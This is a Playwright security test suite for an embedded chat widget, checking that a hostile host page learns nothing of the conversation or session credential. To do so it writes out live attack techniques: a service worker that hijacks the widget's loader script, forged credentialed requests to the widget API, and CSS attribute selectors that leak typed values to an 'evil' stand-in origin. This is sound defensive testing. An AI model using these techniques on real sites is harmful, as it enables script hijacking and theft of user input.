// What a hostile page can do with the rest of the web platform: none of it reads what is said in the widget.
import { expect, test } from '@playwright/test'
import { confide, expectWorthless, lure, withStage } from '../support/hostile.ts'
import { hostPage, snippet } from '../support/site.ts'
import { openPanel } from '../support/widget.ts'

const stage = withStage()

test('storage of the page holds nothing of the chat, and the frame stores no text either', async ({ page }) => {
  const victim = await lure(stage(), page)
  const look = async () => {
    const looks = {
      local: async () => ({ ...localStorage }),
      session: async () => ({ ...sessionStorage }),
      databases: async () => (await indexedDB.databases()).map(({ name }) => name),
      caches: async () => Promise.all((await caches.keys()).map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url))),
    }
    // The browser may refuse a store to a frame of another site; then nothing is in it.
    const seen = Object.entries(looks).map(async ([name, kept]) => [name, await kept().catch(() => [])] as const)
    return Object.fromEntries(await Promise.all(seen))
  }
  await page.evaluate(async () => {
    localStorage.setItem('own', 'kept locally')
    sessionStorage.setItem('own', 'kept in the session')
    await (await caches.open('own')).put('/cached', new Response('x'))
  })
  const [host, frame] = [await page.evaluate(look), await victim.panel.frame.evaluate(look)]
  for (const own of ['kept locally', 'kept in the session', '/cached']) expect(JSON.stringify(host), 'the look finds what the page keeps itself').toContain(own)
  expectWorthless([host, frame], victim)
  for (const [name, kept] of Object.entries(frame)) expect(Object.keys(Object(kept)), `the frame keeps nothing: ${name}`).toEqual([])
})

test('no script reads the credential as a cookie, neither in the page nor in the frame', async ({ page, context }) => {
  const victim = await lure(stage(), page)
  const cookie = (await context.cookies()).find(({ value }) => value === victim.credential)
  expect(cookie).toMatchObject({ httpOnly: true, secure: true, sameSite: 'None', path: '/' })
  expect(JSON.stringify(cookie), 'the cookie belongs to this one site').toContain('shop.test')
  const read = () => {
    document.cookie = 'own=visible; Secure; SameSite=None; Partitioned'
    return document.cookie
  }
  for (const text of [await page.evaluate(read), await victim.panel.frame.evaluate(read)]) {
    expect(text, 'a cookie for scripts is seen').toContain('own=visible')
    expectWorthless(text, victim)
  }
})

test('requests with credentials from the page read no answer and change nothing', async ({ page }) => {
  const { product, widget, ada } = stage()
  const victim = await lure(stage(), page)
  const base = `${product.widget}/api/widget/v1`
  const got = await page.evaluate(
    async ({ base, id, widget, loader }) => {
      const headers = { 'Leadkeep-Widget': widget, 'Leadkeep-Site': location.origin }
      const messages = `${base}/conversations/${id}/messages`
      const body = JSON.stringify({ client_message_id: crypto.randomUUID(), body: 'forged' })
      const asked: [string, RequestInit][] = [
        [`${base}/me`, { credentials: 'include' }],
        [`${base}/me`, { credentials: 'include', headers }],
        [`${base}/conversations`, { credentials: 'include', mode: 'no-cors' }],
        [messages, { credentials: 'include', headers }],
        [messages, { credentials: 'include', mode: 'no-cors' }],
        [messages, { method: 'POST', credentials: 'include', mode: 'no-cors', body, headers: { 'Content-Type': 'text/plain' } }],
        [messages, { method: 'POST', credentials: 'include', headers: { ...headers, 'Content-Type': 'application/json' }, body }],
        [`${base}/session`, { method: 'DELETE', credentials: 'include', headers }],
      ]
      const answers = []
      for (const [address, init] of asked) {
        answers.push(await fetch(address, init).then(async (answer) => `${answer.type} ${answer.status} ${await answer.text()}`, (error) => String(error.name)))
      }
      return { answers, control: (await (await fetch(loader)).text()).length }
    },
    { base, id: victim.conversation, widget: widget.id, loader: widget.loader_url },
  )
  expect(got.control, 'what is meant for everybody can be read').toBeGreaterThan(1000)
  for (const answer of got.answers) expect(['TypeError', 'opaque 0 ']).toContain(answer)
  const { data } = await ada.call('GET', `conversations/${victim.conversation}/messages`)
  expect(JSON.stringify(data)).not.toContain('forged')
  await victim.panel.say('I am still here')
})

test('the widget is told the site and no path, and a link in the chat tells nothing of where it was', async ({ page }) => {
  const { sites, widget, product, ada } = stage()
  const told: Record<string, string> = {}
  page.on('request', (request) => {
    if (request.url().startsWith(product.widget)) told[request.url()] = request.headers()['referer'] ?? ''
  })
  const path = `/secret-path-${crypto.randomUUID()}`
  await page.goto(`${sites.put('shop', path, hostPage(widget))}?token=private`)
  const victim = await confide(stage(), page)
  expect(Object.keys(told).some((address) => address.includes('/w/')), 'requests of the widget were seen').toBe(true)
  for (const referer of Object.values(told)) expect(referer).not.toContain('secret-path')
  const target = sites.put('evil', '/landing', '<!doctype html><title>Landing</title>')
  await ada.call('POST', `conversations/${victim.conversation}/messages`, { client_message_id: crypto.randomUUID(), body: `See ${target}` })
  const [landing] = await Promise.all([page.context().waitForEvent('page'), victim.panel.frame.getByRole('link', { name: target }).click()])
  await landing.waitForLoadState()
  expect(await landing.evaluate(() => [document.referrer, window.opener])).toEqual(['', null])
  await page.evaluate((address) => void location.assign(address), target)
  await expect(page).toHaveTitle('Landing')
  expect(await page.evaluate(() => document.referrer), 'an ordinary link does tell').toContain(sites.origin('shop'))
  expectWorthless(sites.asked, victim)
})

test('a service worker of the page sees the loader and nothing of the frame, and cannot replace the loader', async ({ page }) => {
  const { sites, widget, product } = stage()
  const worker = `self.addEventListener('install', () => skipWaiting())
    self.addEventListener('activate', (event) => event.waitUntil(clients.claim()))
    self.addEventListener('fetch', (event) => {
      event.waitUntil(clients.matchAll().then((all) => all.forEach((each) => each.postMessage(event.request.url))))
      if (event.request.url.includes('/lk/')) event.respondWith(new Response('window.replaced = true', { headers: { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' } }))
    })`
  sites.put('shop', '/sw.js', { body: worker, type: 'text/javascript' })
  const plain = snippet(widget).replace(/ integrity="[^"]*"/, '')
  await page.goto(sites.put('shop', '/register', '<!doctype html><title>Register</title>'))
  await page.evaluate(async () => {
    await navigator.serviceWorker.register('/sw.js')
    if (!navigator.serviceWorker.controller) await new Promise((done) => navigator.serviceWorker.addEventListener('controllerchange', done))
  })
  await page.goto(sites.put('shop', '/without-integrity', `<!doctype html><title>Without</title>${plain}`))
  await expect.poll(() => page.evaluate(() => Reflect.get(window, 'replaced')), 'without integrity the worker does replace it').toBe(true)
  await page.goto(sites.put('shop', '/with-integrity', hostPage(widget)))
  await page.waitForLoadState('load')
  expect(await page.evaluate(() => [Reflect.get(window, 'replaced'), typeof Reflect.get(window, 'leadkeep')])).toEqual([undefined, 'undefined'])
  // A worker that lets the loader through sees no more than that.
  sites.put('shop', '/sw.js', { body: worker.replace(/if \(event.*/, ''), type: 'text/javascript' })
  await page.evaluate(async () => {
    const changed = new Promise((done) => navigator.serviceWorker.addEventListener('controllerchange', done))
    await (await navigator.serviceWorker.getRegistration())?.update()
    await changed
  })
  const listen = `window.loot = []; navigator.serviceWorker.addEventListener('message', ({ data }) => loot.push(data)); navigator.serviceWorker.startMessages()`
  const victim = await lure(stage(), page, { before: listen })
  const loot: string[] = await page.evaluate(() => Reflect.get(window, 'loot'))
  expect(loot.some((each) => each.includes('/lk/')), 'the worker is at work').toBe(true)
  expect(loot.filter((each) => each.startsWith(product.widget) && !each.includes('/lk/'))).toEqual([])
  expectWorthless(loot, victim)
})

test('the frame opened as a window of its own shows nothing, and its opener holds nothing', async ({ page, context }) => {
  const { product, widget } = stage()
  const victim = await lure(stage(), page)
  const [alone] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate((address) => void Object.assign(window, { opened: window.open(address, 'alone') }), `${product.widget}/w/${widget.id}`),
  ])
  await expect(alone.getByText('shows nothing by itself')).toBeVisible()
  expectWorthless(await alone.content(), victim)
  expect(await alone.evaluate(() => window.opener)).toBeNull()
  await expect.poll(() => page.evaluate(() => Reflect.get(window, 'opened').closed), 'the window was cut off').toBe(true)
  await expect(victim.panel.message(victim.answered), 'in the page it is shown').toBeVisible()
})

test('styles of the page neither change the frame nor read what is typed', async ({ page }) => {
  const { sites, widget } = stage()
  const leak = `${sites.origin('evil')}/leak`
  const rules = (word: string) => `[value^="${word}"], [value="${word}"] { background: url(${leak}/${word}) }`
  const style = `* { color: rgb(1, 2, 3) !important; letter-spacing: 9px } ${rules('typed')} ${rules('own')}
    button, iframe { display: none !important } :visited { color: red }`
  await page.goto(sites.put('shop', '/styled', `${hostPage(widget)}<style>${style}</style><input value="own">`))
  const panel = await openPanel(page)
  await panel.frame.getByRole('textbox', { name: /^Name/ }).fill('typed')
  const colour = await panel.frame.getByRole('heading', { level: 1 }).evaluate((each) => [getComputedStyle(each).color, getComputedStyle(each).letterSpacing])
  expect(colour[0]).not.toBe('rgb(1, 2, 3)')
  expect(colour[1]).toBe('normal')
  await expect.poll(() => sites.asked.some(({ url }) => url === '/leak/own'), 'such a rule does leak a field of the page').toBe(true)
  expect(sites.asked.some(({ url }) => url === '/leak/typed')).toBe(false)
})

test('performance entries of the page name the loader and the frame, and no request of the chat', async ({ page }) => {
  const { product, widget } = stage()
  await lure(stage(), page)
  const entries = await page.evaluate(() =>
    performance.getEntriesByType('resource').map((each) => ({ name: each.name, size: Reflect.get(each, 'encodedBodySize') as number })),
  )
  const ours = entries.filter(({ name }) => name.startsWith(product.widget))
  expect(ours.map(({ name }) => new URL(name).pathname).toSorted()).toEqual([new URL(widget.loader_url).pathname, `/w/${widget.id}`].toSorted())
  expect(ours.find(({ name }) => name.includes('/w/'))?.size, 'not even how long the document is').toBe(0)
})
